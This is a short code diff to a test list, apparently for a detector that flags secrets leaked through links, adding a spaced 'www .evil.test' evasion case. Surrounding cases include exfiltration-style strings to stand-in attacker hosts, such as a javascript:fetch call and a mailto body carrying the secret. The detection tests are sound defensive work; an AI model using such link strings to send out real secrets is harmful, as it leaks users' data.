@@ -28,6 +28,7 @@ NONCE = "ab12cd34ef56"
         ("KNOWN.evil.com", Leak.LINK),
         ("evil.de/KNOWN", Leak.LINK),
         ("10.1.2.3/KNOWN", Leak.LINK),
+        ("www .evil.test/KNOWN", Leak.LINK),
         ("data:text/html;base64,KNOWN", Leak.LINK),
         ("javascript:fetch('//evil.test/KNOWN')", Leak.LINK),
         ("mailto:eve@evil.test?body=KNOWN", Leak.LINK),
